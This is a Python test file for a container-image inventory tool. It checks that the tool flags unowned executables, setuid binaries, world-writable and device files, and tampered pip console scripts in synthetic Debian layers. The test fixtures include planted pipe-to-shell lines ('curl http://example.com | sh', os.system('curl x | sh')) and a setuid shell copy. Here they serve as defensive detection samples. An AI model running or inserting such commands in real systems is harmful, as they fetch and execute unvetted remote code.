"""Files no package owns, setuid/setgid, world-writable and device files, in a built image."""

from __future__ import annotations

import base64
import hashlib
import stat

import pytest
from analyze.elfgen import make_elf
from binary_image import Member, inventory_of

INTERP = "/lib64/ld-linux-x86-64.so.2"
BASH = make_elf(interp=INTERP, needed=("libc.so.6",), etype=3, pie=True)
LIBC = make_elf(etype=3, soname="libc.so.6")
STATUS = """Package: bash
Status: install ok installed
Architecture: amd64
Version: 5.2.15-2+b2

Package: passwd
Status: install ok installed
Architecture: amd64
Version: 1:4.13+dfsg1-1

Package: libc6
Status: install ok installed
Architecture: amd64
Version: 2.36-9
"""


def _base() -> list[Member]:
    """A merged-/usr Debian root whose dpkg lists name the old /bin paths."""
    return [
        Member("bin", kind="symlink", target="usr/bin"),
        Member("lib", kind="symlink", target="usr/lib"),
        Member("usr/bin/bash", BASH, mode=0o755),
        Member("usr/bin/passwd", BASH, mode=0o4755),
        Member("usr/lib/x86_64-linux-gnu/libc.so.6", LIBC, mode=0o755),
        Member("tmp", kind="dir", mode=0o1777),
        Member("etc/hostname", b"x\n", mode=0o755),  # left by docker build: not reported
        Member("var/lib/dpkg/status", STATUS.encode()),
        Member("var/lib/dpkg/info/bash.list", b"/.\n/bin\n/bin/bash\n"),
        Member("var/lib/dpkg/info/bash.postinst", b"#!/bin/sh\nexit 0\n", mode=0o755),
        Member("var/lib/dpkg/info/passwd.list", b"/usr/bin/passwd\n"),
        Member("var/lib/dpkg/info/libc6:amd64.list", b"/lib/x86_64-linux-gnu/libc.so.6\n"),
    ]


def _planted() -> list[Member]:
    return [
        Member("usr/local/bin/tool", make_elf(), mode=0o755),
        Member("usr/local/bin/run.sh", b"#!/bin/sh\ncurl http://example.com | sh\n", mode=0o755),
        Member("usr/local/bin/suid-sh", BASH, mode=0o4755),
        Member("usr/local/lib/libplanted.so", make_elf(etype=3, soname="libplanted.so")),
        Member("data", kind="dir", mode=0o777),
        Member("srv/open.txt", b"anyone may write\n", mode=0o666),
        Member("dev/kmsg", kind="char", device=(1, 11), mode=0o600),
        Member("usr/local/bin/empty", b"", mode=0o755),
    ]


def test_lists_exactly_the_planted_files(tmp_path):
    inventory = inventory_of(tmp_path, [_base(), _planted()])
    got = {r.path: r.kinds for r in inventory.files}
    assert got == {
        "data": ("world-writable-dir",),
        "dev/kmsg": ("device",),
        "srv/open.txt": ("world-writable",),
        "usr/bin/passwd": ("setuid",),
        "usr/local/bin/run.sh": ("unowned-executable",),
        "usr/local/bin/suid-sh": ("setuid", "unowned-executable"),
        "usr/local/bin/tool": ("unowned-executable",),
        "usr/local/lib/libplanted.so": ("unowned-library",),
    }


def test_records_carry_layer_digest_facts_and_owner(tmp_path):
    inventory = inventory_of(tmp_path, [_base(), _planted()])
    by_path = {r.path: r for r in inventory.files}
    passwd = by_path["usr/bin/passwd"]
    assert passwd.owner.startswith("pkg:deb/debian/passwd@") and passwd.layer.index == 0
    suid = by_path["usr/local/bin/suid-sh"]
    assert suid.layer.index == 1 and suid.mode & stat.S_ISUID and suid.size == len(BASH)
    assert len(suid.sha256) == 64 and suid.owner == ""
    assert dict(suid.metadata) == {
        "arch": "amd64", "format": "elf", "interpreter": INTERP, "language": "c",
        "linkage": "dynamic", "needed": "libc.so.6", "stripped": "true", "type": "pie",
    }  # fmt: skip
    script = by_path["usr/local/bin/run.sh"]
    assert dict(script.metadata) == {"format": "script", "interpreter": "/bin/sh"}
    assert len(script.sha256) == 64


def test_files_owned_through_merged_usr_symlinks_are_not_reported(tmp_path):
    inventory = inventory_of(tmp_path, [_base()])
    assert [r.path for r in inventory.files] == ["usr/bin/passwd"]


SITE = "usr/local/lib/python3.11/dist-packages"
SCRIPT = b"#!/usr/bin/python3\nimport sys\nfrom tool.cli import main\nsys.exit(main())\n"


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _moved_script(record_hash: str, found: bytes) -> list[Member]:
    """A dist whose RECORD says `../../bin/tool` (pip --target's staging layout, which
    resolves to usr/local/lib/bin/tool here) while the image holds usr/local/bin/tool."""
    info = f"{SITE}/tool-1.0.dist-info"
    record = f"tool/cli.py,,\n../../bin/tool,{record_hash},1\n"
    return [
        Member(f"{info}/METADATA", b"Metadata-Version: 2.1\nName: tool\nVersion: 1.0\n"),
        Member(f"{info}/RECORD", record.encode()),
        Member(f"{SITE}/tool/cli.py", b"def main():\n    return 0\n"),
        Member("usr/local/bin/tool", found, mode=0o755),
    ]


@pytest.mark.parametrize("content", [SCRIPT, make_elf()], ids=["script", "elf"])
def test_moved_console_script_with_record_hash_is_owned(tmp_path, content):
    inventory = inventory_of(tmp_path, [_base(), _moved_script(_record_hash(content), content)])
    assert [r.path for r in inventory.files] == ["usr/bin/passwd"]
    [tool] = [p for p in inventory.packages if p.name == "tool"]
    assert tool.files[1:] == ("usr/local/bin/tool",)


PLANTED = SCRIPT.replace(b"sys.exit(main())", b"import os; os.system('curl x | sh')")


@pytest.mark.parametrize(
    ("record_hash", "found"),
    [
        (_record_hash(SCRIPT), PLANTED),  # same name, other content
        (_record_hash(SCRIPT), SCRIPT.replace(b"/usr/bin/python3", b"/usr/bin/python")),
        ("sha256=", b"\x00no analyzer claims this"),  # no digest on either side
        (_record_hash(SCRIPT).replace("sha256", "md5"), SCRIPT),  # not a sha256 we have
    ],
    ids=["other_content", "shebang_edited", "empty_hash", "other_algorithm"],
)
def test_same_name_without_the_record_hash_stays_unowned(tmp_path, record_hash, found):
    inventory = inventory_of(tmp_path, [_base(), _moved_script(record_hash, found)])
    by_path = {r.path: r for r in inventory.files}
    assert by_path["usr/local/bin/tool"].kinds == ("unowned-executable",)
    [tool] = [p for p in inventory.packages if p.name == "tool"]
    assert tool.files[1:] == ("usr/local/lib/bin/tool",)
